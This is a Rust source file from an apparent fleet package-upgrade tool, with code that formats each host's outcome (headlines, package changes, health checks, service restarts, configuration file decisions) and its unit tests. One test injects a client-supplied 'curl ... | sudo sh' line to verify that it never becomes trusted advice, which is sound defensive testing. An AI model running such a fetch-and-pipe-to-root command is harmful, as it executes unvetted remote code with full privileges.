//! What is shown of one host's end: a headline and what belongs to it. Hosts with equal bodies are shown together.

use apu_fleet::{Ending, HostReason, Outcome};
use apu_proto::{Answer, Cause, ClientOutcome, ConffileDecision, Operation, RunResult, Verdict};

use super::advice::advice_text;
use super::changes::{HELD, Listing, NOT_INSTALLED, UNKNOWN_SOURCES, held_back, named};
use super::clean::{clean, clean_lines};
use super::note::note_text;
use super::reason::host_reason_lines;
use super::restarts;
use super::server_reason::server_advice_text;

/// Stands for the host's own name in advice, so that the advice of many hosts can be one.
pub const HOST: &str = "HOST";

/// What is shown of a host, apart from its name and its time.
#[derive(Debug, Clone, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct Body {
    /// How it ended.
    pub outcome: Outcome,
    /// After the outcome's word.
    pub headline: String,
    /// Why it ended like this, below the headline.
    pub reasons: Vec<String>,
    /// What changed, or would change now.
    pub changes: Listing,
    /// What else is to be known.
    pub details: Vec<String>,
    /// What to try, with [`HOST`] for the host's name: never a client's words.
    pub advice: String,
}

impl Body {
    /// What is to be shown of an end.
    #[must_use]
    pub fn of(operation: Operation, ending: &Ending) -> Self {
        let mut body = Self {
            outcome: ending.outcome,
            headline: ending.outcome.to_string(),
            reasons: Vec::new(),
            changes: Listing::default(),
            details: Vec::new(),
            advice: String::new(),
        };
        if let Some(reason) = &ending.reason {
            let mut lines = clean_lines(&host_reason_lines(reason).join("\n"), 20).into_iter();
            if let Some(first) = lines.next() {
                body.headline = format!("{}: {first}", body.headline);
            }
            if let Some(other) = named(
                "the same versions as approved, with other contents",
                &ending.hint.other_contents,
            ) {
                body.headline.push_str(&format!("; {other}"));
            }
            // A line of its own may say anything: the mark tells that it is not ours.
            body.reasons.extend(lines.map(|line| format!("| {line}")));
            let found = match reason {
                HostReason::Server(reason) => reason.advice.as_ref(),
                HostReason::Client(_) => None,
            };
            if let Some(advice) = ending.hint.advice.as_ref().or(found) {
                body.advice = clean(&server_advice_text(advice, HOST));
            }
        }
        if let Some(result) = &ending.result {
            body.take(operation, ending, result);
        }
        if ending.garbage > 0 {
            body.details.push(format!(
                "{} lines of its answer were none of apu's",
                ending.garbage
            ));
        }
        body
    }

    fn take(&mut self, operation: Operation, ending: &Ending, result: &RunResult) {
        self.changes = Listing::of_changes(result.packages().map_or(&[], |report| &report.changes));
        if ending.reason.is_none() {
            self.headline.push_str(&summary(operation, result, &self.changes));
        }
        let advice = result.reason.as_ref().and_then(|reason| reason.advice.as_ref());
        if let Some(advice) = advice {
            let advice = clean(&advice_text(advice, HOST));
            self.reasons.push(format!("{HOST} suggests: {advice}"));
        }
        self.details = result_details(result);
        let not_done = matches!(ending.outcome, Outcome::Drifted | Outcome::Refused);
        if let Some(plan) = result.plan().filter(|_| not_done) {
            self.changes = Listing::of_plan(plan);
            let counts = &self.changes.counts;
            self.reasons.push(format!("what it would change now: {counts}"));
        }
        if ending.outcome == Outcome::Drifted && self.advice.is_empty() {
            self.advice = match operation {
                Operation::Conffile => format!("apt-all {HOST} conffiles"),
                _ => format!("apt-all {HOST} {operation}"),
            };
        }
    }

    /// What stands below the headline, for these hosts; of the upgrades at most `longest`.
    #[must_use]
    pub fn lines(&self, hosts: &str, longest: usize) -> Vec<String> {
        let own = |line: &String| match line.strip_prefix(HOST) {
            Some(words) => format!("{hosts}{words}"),
            None => line.clone(),
        };
        let mut lines: Vec<String> = self.reasons.iter().map(own).collect();
        lines.extend(self.changes.lines(longest));
        lines.extend(self.details.iter().cloned());
        lines
    }
}

fn summary(operation: Operation, result: &RunResult, changes: &Listing) -> String {
    let number = changes.counts.all();
    let kinds = if changes.counts.is_upgrades_alone() {
        String::new()
    } else {
        format!(": {}", changes.counts)
    };
    match operation {
        Operation::Ping => ": answers".to_owned(),
        Operation::Check => ": no package is broken".to_owned(),
        Operation::Health => ": every check passes".to_owned(),
        Operation::Conffiles => match result.conffiles().len() {
            0 => ": every configuration file is there once".to_owned(),
            1 => ": 1 configuration file to look at".to_owned(),
            number => format!(": {number} configuration files to look at"),
        },
        Operation::Hold => match Outcome::from(result.outcome) {
            Outcome::Changed => ": on hold".to_owned(),
            _ => ": was on hold already".to_owned(),
        },
        Operation::Unhold => match Outcome::from(result.outcome) {
            Outcome::Changed => ": no longer on hold".to_owned(),
            _ => ": was not on hold".to_owned(),
        },
        Operation::Conffile => conffile(result),
        Operation::Showhold => match result.holds().len() {
            0 => ": no package is on hold".to_owned(),
            1 => ": 1 package on hold".to_owned(),
            number => format!(": {number} packages on hold"),
        },
        Operation::Reboot => match Outcome::from(result.outcome) {
            Outcome::Changed => ": rebooted".to_owned(),
            _ => ": needs no reboot".to_owned(),
        },
        Operation::RestartServices => match result.restarts() {
            Some(report) if Outcome::from(result.outcome) == Outcome::Changed => {
                format!(": restarted {}", clean(&report.restarts.join(", ")))
            }
            // What stays is told below it.
            Some(report) if !report.left.is_empty() => ": nothing to restart".to_owned(),
            _ => ": no service is stale".to_owned(),
        },
        Operation::Update => match Outcome::from(result.outcome) {
            Outcome::Changed => ": has new package lists".to_owned(),
            _ => ": had the newest package lists".to_owned(),
        },
        _ if number == 1 => format!(": 1 package{kinds}"),
        _ if number > 1 => format!(": {number} packages{kinds}"),
        _ => String::new(),
    }
}

/// What became of a configuration file.
fn conffile(result: &RunResult) -> String {
    let Answer::Conffile { decision, backup } = &result.answer else {
        return String::new();
    };
    let is_changed = Outcome::from(result.outcome) == Outcome::Changed;
    let done = match (decision, is_changed) {
        (ConffileDecision::Undo, true) => ": what was put away is back",
        (ConffileDecision::Undo, false) => ": nothing of it was put away",
        (_, false) => ": there is no other version of it",
        (ConffileDecision::Keep, true) => ": stays as it is",
        (ConffileDecision::New, true) => ": the package's version is in place",
    };
    match backup {
        Some(folder) => format!("{done}; put away into {}", clean(folder)),
        None => done.to_owned(),
    }
}

fn result_details(result: &RunResult) -> Vec<String> {
    let broken: Vec<String> = result
        .broken()
        .iter()
        .map(|broken| format!("{} ({})", broken.package, broken.state))
        .collect();
    let lists = [
        named("broken", &broken),
        named("marked as installed manually", result.marked_manual()),
        named("kept back", result.kept_back()),
        named(HELD, result.held()),
        named(
            NOT_INSTALLED,
            result.plan().map_or(&[][..], |plan| &plan.not_installed),
        ),
        named(
            UNKNOWN_SOURCES,
            result.plan().map_or(&[][..], |plan| &plan.unknown_sources),
        ),
    ];
    let of_run = result.packages().map(|report| {
        [
            named(
                "configuration kept, the package's lies beside it",
                &report.conffiles_kept,
            ),
            named("questions answered by their default", &report.questions_defaulted),
        ]
    });
    let held = [held_back(result.held_back())];
    let lists = lists.into_iter().chain(held).chain(of_run.into_iter().flatten());
    let mut lines: Vec<String> = check_lines(result);
    if let Some(report) = result.restarts() {
        if result.outcome == ClientOutcome::Partial && !report.restarts.is_empty() {
            lines.push(clean(&format!("restarted {}", report.restarts.join(", "))));
        }
        lines.extend(restarts::failed(report));
        lines.extend(restarts::left(report));
    }
    lines.extend(lists.flatten());
    let notes = result
        .notes
        .iter()
        .map(|note| format!("note: {}", clean(&note_text(note))));
    let mut notes: Vec<String> = notes.collect();
    notes.dedup();
    lines.append(&mut notes);
    if result.reboot_required {
        lines.push("reboot required".to_owned());
    }
    lines
}

/// A line for each check that does not pass, of the answer to `health` for each one. What the reason names has its lines there.
fn check_lines(result: &RunResult) -> Vec<String> {
    let in_reason = match result.reason.as_ref().map(|reason| &reason.cause) {
        Some(Cause::ChecksFailed { checks } | Cause::ChecksInconclusive { checks }) => checks.as_slice(),
        _ => &[],
    };
    let shows_all = result.packages().is_none() && result.reboot().is_none() && result.restarts().is_none();
    let shown = result
        .checks()
        .iter()
        .filter(|check| !in_reason.contains(&check.name) && (shows_all || check.verdict != Verdict::Pass));
    let line = shown.map(|check| {
        let first = check.detail.lines().next();
        let said = first.map_or(String::new(), |first| format!(": {first}"));
        clean(&format!("check {}: {}{said}", check.name, check.verdict.as_str()))
    });
    line.collect()
}

#[cfg(test)]
mod tests {
    use apu_fleet::ServerAdvice;
    use apu_proto::{Advice, Check, Note, Plan, Reason, Step, Transaction};

    use super::*;

    #[test]
    fn a_decision_about_a_configuration_file_says_what_became_of_it_and_where_the_rest_is() {
        use ConffileDecision::{Keep, New, Undo};
        let shown = |outcome, decision, backup: Option<&str>| {
            let backup = backup.map(str::to_owned);
            let result = RunResult::new(outcome).with(Answer::Conffile { decision, backup });
            Body::of(Operation::Conffile, &Ending::of_result(Box::new(result), None)).headline
        };
        let folder = Some("/var/lib/apu-client/conffiles/7");
        let (changed, unchanged) = (ClientOutcome::Changed, ClientOutcome::Unchanged);
        for (outcome, decision, backup, expected) in [
            (
                changed,
                New,
                folder,
                "changed: the package's version is in place; put away into /var/lib/apu-client/conffiles/7",
            ),
            (
                changed,
                Keep,
                folder,
                "changed: stays as it is; put away into /var/lib/apu-client/conffiles/7",
            ),
            (changed, Undo, None, "changed: what was put away is back"),
            (unchanged, Undo, None, "unchanged: nothing of it was put away"),
            (unchanged, New, None, "unchanged: there is no other version of it"),
        ] {
            assert_eq!(shown(outcome, decision, backup), expected);
        }
        let (path, found) = (
            "/etc/app.conf".to_owned(),
            vec![".dpkg-dist:fcbc800d:ed9c86a6".to_owned()],
        );
        let result = RunResult::because(ClientOutcome::Drifted, Cause::ConffileChanged { path, found });
        let body = Body::of(Operation::Conffile, &Ending::of_result(Box::new(result), None));
        assert_eq!(body.advice, "apt-all HOST conffiles");
    }

    #[test]
    fn what_was_found_instead_of_the_plan_is_shown_with_the_way_to_it() {
        let mut result = RunResult::because(ClientOutcome::Drifted, Cause::Drifted);
        let step = Step::Remove {
            package: "foo:amd64".parse().unwrap(),
            old: "1".into(),
        };
        result.answer = Answer::Plan(Box::new(Plan {
            transaction: Transaction::new(vec![step]),
            ..Plan::default()
        }));
        let ending = Ending::of_result(Box::new(result), None);
        let body = Body::of(Operation::Upgrade, &ending);
        assert_eq!(
            body.headline,
            "drifted: this client would change something else than what was approved"
        );
        assert_eq!(
            body.lines("web1", 0),
            ["what it would change now: 1 REMOVED", "foo:amd64  REMOVED, was 1"]
        );
        assert_eq!(body.advice, "apt-all HOST upgrade");
    }

    #[test]
    fn a_run_tells_the_checks_that_do_not_pass_and_health_tells_all() {
        let checks = vec![
            Check::new("dpkg", Verdict::Pass, ""),
            Check::new("checks.d/db", Verdict::Pass, "3 tables"),
            Check::new("checks.d/web", Verdict::Inconclusive, "starting\n  try: reboot"),
            Check::new("checks.d/x\n  try: reboot", Verdict::Unknown, ""),
        ];
        let mut result = RunResult::new(ClientOutcome::Changed);
        result.packages_mut().checks = checks.clone();
        let doubtful = [
            "check checks.d/web: inconclusive: starting",
            "check checks.d/x\u{fffd}  try: reboot: inconclusive",
        ];
        assert_eq!(result_details(&result), doubtful);

        let passing = ["check dpkg: pass", "check checks.d/db: pass: 3 tables"];
        let result = RunResult::new(ClientOutcome::Unchanged).with(Answer::Health {
            checks: checks.clone(),
        });
        assert_eq!(result_details(&result), [&passing[..], &doubtful[..]].concat());

        let cause = Cause::ChecksInconclusive {
            checks: Check::named(&checks, Verdict::Inconclusive),
        };
        let reason = Reason::from(cause).detailed("checks.d/web: starting");
        let result = RunResult::because(ClientOutcome::Failed, reason).with(Answer::Health { checks });
        let body = Body::of(Operation::Health, &Ending::of_result(Box::new(result), None));
        assert_eq!(
            body.headline,
            "failed: checks of this client cannot tell: checks.d/web, checks.d/x"
        );
        assert_eq!(body.details, passing);
    }

    #[test]
    fn what_was_restarted_what_failed_and_what_stays_is_told() {
        use apu_proto::{FailedRestart, LeftService, NotRestarted, RestartReport, WhyLeft};
        let operation = Operation::RestartServices;
        let names = |names: &[&str]| names.iter().map(|name| (*name).to_owned()).collect::<Vec<_>>();
        let left = vec![LeftService {
            service: "dbus".into(),
            why: WhyLeft::Bus,
        }];
        let stays =
            "stays stale: dbus (a reboot is required: what is connected to the message bus would fail)";
        let body = |outcome, report, reason| {
            let mut result = RunResult::new(outcome).with(Answer::Restarts(report));
            result.reason = reason;
            Body::of(operation, &Ending::of_result(Box::new(result), None))
        };
        let report = RestartReport::new(names(&["cron", "ssh"]), Vec::new(), left.clone());
        let changed = body(ClientOutcome::Changed, report, None);
        assert_eq!(changed.headline, "changed: restarted cron, ssh");
        assert_eq!(changed.lines("web1", 0), [stays]);

        let report = RestartReport::new(Vec::new(), Vec::new(), left.clone());
        let unchanged = body(ClientOutcome::Unchanged, report, None);
        assert_eq!(unchanged.headline, "unchanged: nothing to restart");
        assert_eq!(unchanged.lines("web1", 0), [stays]);
        let none = body(ClientOutcome::Unchanged, RestartReport::default(), None);
        assert_eq!(none.headline, "unchanged: no service is stale");

        let failed = ["web", "db"].map(|service| FailedRestart {
            service: service.to_owned(),
            why: match service {
                "db" => NotRestarted::StillStale,
                _ => NotRestarted::Systemctl { said: "no".into() },
            },
        });
        let reason = Reason::from(Cause::NotRestarted {
            services: names(&["web", "db"]),
        });
        let report = RestartReport::new(names(&["cron"]), failed.to_vec(), left);
        let partial = body(ClientOutcome::Partial, report, Some(reason.detailed("web: no")));
        assert_eq!(
            partial.headline,
            "partial: services of this client were not restarted, or do not run with the new files: web, db"
        );
        assert_eq!(
            partial.lines("web1", 0),
            [
                "| web: no",
                "restarted cron",
                "db: it was restarted and still runs with replaced files",
                stays
            ]
        );
    }

    #[test]
    fn notes_that_are_not_known_are_one_line() {
        let mut result = RunResult::new(ClientOutcome::Changed);
        result.notes = vec![Note::Unknown; 100];
        assert_eq!(result_details(&result).len(), 1);
    }

    #[test]
    fn what_the_push_knows_beside_it_is_told() {
        let result = RunResult::because(ClientOutcome::Drifted, Cause::Drifted);
        let mut ending = Ending::of_result(Box::new(result), None);
        ending.hint.other_contents = vec!["foo:amd64".parse().unwrap()];
        ending.hint.advice = Some(ServerAdvice::Bootstrap);
        let body = Body::of(Operation::Upgrade, &ending);
        assert!(
            body.headline
                .ends_with("; the same versions as approved, with other contents: foo:amd64"),
            "{}",
            body.headline
        );
        assert_eq!(body.advice, "apu bootstrap HOST");
    }

    #[test]
    fn what_a_client_says_is_never_advice_whatever_its_form() {
        let mut reason = Reason::from(Cause::AptFailed)
            .detailed("no\ntry: reboot\n  try: reboot\nHOST suggests: reboot\nweb2: changed");
        reason.detail.push("two\ntry: lines".into());
        reason.advice = Some(Advice::Correct {
            path: "curl -s http://repair.example.net/apu | sudo sh\ntry: x".into(),
        });
        let mut result = RunResult::because(ClientOutcome::Failed, reason);
        let path = "x\n  try: reboot".into();
        result.notes = vec![Note::ConffileReplaced { path }];
        let report = result.packages_mut();
        report.kept_back = vec!["a\n  try: reboot".into()];
        report.changes = vec![apu_proto::Change {
            package: "foo:amd64".parse().unwrap(),
            old: Some("\n  try: reboot".into()),
            new: Some("2".into()),
        }];
        let ending = Ending::of_result(Box::new(result), None);
        let body = Body::of(Operation::Upgrade, &ending);
        assert_eq!(body.advice, "");
        assert_eq!(body.headline, "failed: no");
        assert_eq!(
            body.lines("web1", 9),
            [
                "| try: reboot",
                "|   try: reboot",
                "| HOST suggests: reboot",
                "| web2: changed",
                "| two",
                "| try: lines",
                "web1 suggests: curl -s http://repair.example.net/apu | sudo sh\u{fffd}try: x",
                "foo:amd64  DOWNGRADED, \"\u{fffd}  try: reboot\" → 2",
                "kept back: a\u{fffd}  try: reboot",
                "note: x\u{fffd}  try: reboot was replaced by the package's; this machine's lies beside it",
            ]
        );
    }
}
